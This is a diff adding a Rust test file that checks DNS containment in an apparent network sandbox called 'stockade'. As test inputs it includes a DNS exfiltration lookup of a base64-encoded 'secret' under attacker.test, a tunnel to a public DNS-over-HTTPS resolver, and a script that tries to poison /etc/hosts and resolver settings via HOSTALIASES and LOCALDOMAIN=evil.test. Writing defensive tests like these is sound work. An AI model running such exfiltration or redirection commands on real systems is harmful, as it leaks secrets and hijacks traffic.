@@ -1,0 +1,93 @@
+//! Names (DNS): only what the policy allows is known inside, and the world outside hears of nothing else.
+#![forbid(unsafe_code)]
+
+use stockade_testkit::{
+    Mode, Outer, Stockade,
+    outer::RESOLVER,
+    upstream::{Dns, Http, Udp},
+};
+
+const POLICY: &str = "
+version: 1
+network:
+  endpoints:
+    site:
+      hosts: [up.test]
+      ports: [80]
+      private_addresses: [192.0.2.0/24]
+";
+
+#[test]
+fn an_unknown_name_is_answered_locally() {
+    Outer::run(|_| {
+        let dns = Dns::start((RESOLVER, 53));
+        dns.host("up.test", "192.0.2.10");
+        dns.host("c2VjcmV0.attacker.test", "192.0.2.10");
+        for mode in Mode::available() {
+            let tries = ["resolve:c2VjcmV0.attacker.test", "resolve:up.test"];
+            let run = Stockade::new(*mode).policy(POLICY).probe(&tries);
+            assert!(!run.outcome(tries[0]).what.starts_with("ok"), "{mode:?} {run:?}");
+            assert!(run.outcome(tries[1]).what.starts_with("ok 198.1"), "a synthetic address: {mode:?} {run:?}");
+            let event = run.events.some("dns_no_policy");
+            assert_eq!(event.action(), Some("denied"), "{mode:?} {run:?}");
+        }
+        assert_eq!(dns.queries(), [], "no resolver saw a question, not even for the allowed name before its use");
+    });
+}
+
+#[test]
+fn a_tool_without_proxy_support_reaches_an_allowed_name() {
+    Outer::run(|_| {
+        let dns = Dns::start((RESOLVER, 53));
+        dns.host("up.test", "192.0.2.10");
+        let site = Http::hello("192.0.2.10:80");
+        for mode in Mode::available() {
+            let run =
+                Stockade::new(*mode).policy(POLICY).sh("curl -sS --noproxy '*' --max-time 10 http://up.test/direct");
+            assert_eq!(run.text(), "hello from upstream\n", "{mode:?} {run:?}");
+        }
+        assert!(site.requests().iter().all(|r| r.target() == "/direct"));
+        assert_eq!(site.requests().len(), Mode::available().len());
+    });
+}
+
+#[test]
+fn public_resolvers_are_out_of_reach() {
+    Outer::run(|_| {
+        let sinks = ["198.51.100.8:53", "203.0.113.8:53"].map(Udp::sink);
+        for mode in Mode::available() {
+            let tries = [
+                "tcp:198.51.100.8:853",
+                "proxy:CONNECT dns.example.com:443 HTTP/1.1\\r\\nHost: dns.example.com:443\\r\\n\\r\\n",
+            ];
+            let run = Stockade::new(*mode).policy(POLICY).probe(&tries);
+            assert!(run.outcome(tries[0]).is_refused(), "{mode:?} {run:?}");
+            assert!(run.outcome(tries[1]).what.starts_with("ok HTTP/1.1 403"), "{mode:?} {run:?}");
+            assert_eq!(run.events.with("bypass").len(), 1, "{mode:?} {run:?}");
+            assert_eq!(run.events.one("no_policy").host(), Some("dns.example.com"), "{mode:?}");
+        }
+        sinks.iter().for_each(|s| s.counters.assert_untouched());
+    });
+}
+
+#[test]
+fn what_the_command_writes_does_not_steer_the_door() {
+    Outer::run(|_| {
+        let dns = Dns::start((RESOLVER, 53));
+        dns.host("up.test", "192.0.2.10");
+        let site = Http::hello("192.0.2.10:80");
+        let wrong = Http::hello("192.0.2.66:80");
+        for mode in Mode::available() {
+            let script = "for f in /etc/hosts /etc/resolv.conf /etc/nsswitch.conf; do
+                    (echo 192.0.2.66 up.test >> $f) 2>/dev/null && echo wrote $f
+                done
+                echo up.test 192.0.2.66 > aliases
+                HOSTALIASES=$PWD/aliases LOCALDOMAIN=evil.test RES_OPTIONS=ndots:9 curl -sS --max-time 10 http://up.test/";
+            let run = Stockade::new(*mode).policy(POLICY).sh(script);
+            assert!(run.text().ends_with("hello from upstream\n"), "{mode:?} {run:?}");
+        }
+        wrong.counters().assert_untouched();
+        assert_eq!(site.requests().len(), Mode::available().len());
+        assert!(dns.queries().iter().all(|(name, _)| name == "up.test"), "{:?}", dns.queries());
+    });
+}
